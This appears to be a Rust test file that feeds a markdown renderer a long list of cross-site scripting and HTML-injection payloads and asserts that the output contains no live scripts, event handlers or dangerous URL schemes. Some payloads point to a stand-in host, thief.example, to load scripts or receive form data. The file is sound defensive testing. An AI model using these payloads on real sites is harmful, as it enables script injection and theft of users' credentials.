//! Texts that want to run something on the page, to leave their message, or to pass for the site.

use super::html;

/// Parts of a page on which something would run, load, be asked for or be hidden.
fn assert_harmless(payload: &str) {
    for markdown in [payload.to_owned(), format!("x {payload} y"), format!("- > {payload}\n\n{payload}")] {
        let html = html(&markdown);
        for tag in html.split('<').skip(1) {
            let tag = tag.split('>').next().unwrap_or_default().to_ascii_lowercase();
            let name = tag.trim_start_matches('/').split(' ').next().unwrap_or_default();
            let own = ["span", "input"].contains(&name);
            let allowed = super::super::elements::ELEMENTS.iter().any(|element| element.name == name);
            assert!(own || allowed, "{payload} made <{tag}>: {html}");
            // Values are escaped, so that what stands outside of quotes are names alone.
            for name in tag.split('"').step_by(2) {
                for wrong in [" on", "style", "srcdoc", "srcset", "formaction", "ping", "name=", "xlink"] {
                    assert!(!name.contains(wrong), "{payload} made <{tag}>: {html}");
                }
            }
            for wrong in
                ["\"javascript:", "\"data:", "\"vbscript:", "\"blob:", "\"file:", "id=\"search\"", "site-"]
            {
                assert!(!tag.contains(wrong), "{payload} made <{tag}>: {html}");
            }
        }
        let balance = |name: &str| {
            (html.matches(&format!("<{name}>")).count() + html.matches(&format!("<{name} ")).count())
                .abs_diff(html.matches(&format!("</{name}>")).count())
        };
        for name in ["div", "p", "a", "b", "li", "ul", "table", "td", "details", "span"] {
            assert_eq!(balance(name), 0, "{payload} left <{name}> unbalanced: {html}");
        }
    }
}

const PAYLOADS: &[&str] = &[
    "<script>window.taken = 1</script>",
    "<SCRIPT SRC=//thief.example/a.js></SCRIPT>",
    "<scr<script>ipt>run()</scr</script>ipt>",
    "<img src=x onerror=run()>",
    "<img/src=x/onerror=run()>",
    "<img src=\"x\"onerror=\"run()\">",
    "<img src=`x`onerror=run()>",
    "<a href=javascript:run()>a</a>",
    "<a href=\" \u{1}javascript:run()\">a</a>",
    "<a href=\"java\nscript:run()\">a</a>",
    "<a href=\"java&Tab;script&colon;run()\">a</a>",
    "<a href=\"&#106;avascript:run()\">a</a>",
    "<a href=\"JaVaScRiPt&#58;run()\">a</a>",
    "<a href=vbscript:run()>a</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>a</a>",
    "[a](javascript:run())",
    "[a](java&#115;cript:run())",
    "[a](<java\tscript:run()>)",
    "[a]\n\n[a]: javascript:run()",
    "<javascript:run()>",
    "![a](data:image/svg+xml,<svg onload=run()>)",
    "![\" onerror=\"run()](x)",
    "[a](/b \"\\\" onclick=\\\"run()\")",
    "<svg onload=run()><circle/></svg>",
    "<svg><a xlink:href=javascript:run()><text>a</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=run()>",
    "<noscript><p title=\"</noscript><img src=x onerror=run()>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=run()>\">",
    "<p title=\"--><img src=x onerror=run()>\"><!--",
    "<!--><img src=x onerror=run()>-->",
    "<![CDATA[><img src=x onerror=run()>]]>",
    "<iframe srcdoc=\"<script>run()</script>\"></iframe>",
    "<object data=//thief.example></object><embed src=x>",
    "<form action=//thief.example><input name=password><button formaction=javascript:run()>a</button></form>",
    "<style>*{display:none}</style><div style=position:fixed;inset:0>a</div>",
    "<base href=//thief.example><link rel=stylesheet href=x><meta http-equiv=refresh content=0>",
    "<div class=\"site-header\" id=search>a</div></div></div></article><footer>b",
    "<details open ontoggle=run()><summary>a</summary></details>",
    "<video src=x onerror=run()><source onerror=run()></video><audio autoplay onplay=run()>",
    "<a href=/b ping=//thief.example target=_top onmouseover=run()>a</a>",
    "<img srcset=\"x 1x, javascript:run() 2x\" src=javascript:run()>",
    "</p></li></ul></div><table><td><b onclick=run()>",
    "```\"onclick=run()>\n</code></pre><script>run()</script>\n```",
    "```html\n<img src=x onerror=run()>\n```",
    "[^<img src=x onerror=run()>]\n\n[^<img src=x onerror=run()>]: a",
    "<b title='\"><img src=x onerror=run()>'>a</b>",
    "<b <img src=x onerror=run()>>a",
    "https://a.example/\"onmouseover=\"run()",
    "<https://a.example/\"onmouseover=\"run()>",
];

#[test]
fn hostile_texts_do_nothing() {
    for payload in PAYLOADS {
        assert_harmless(payload);
    }
}
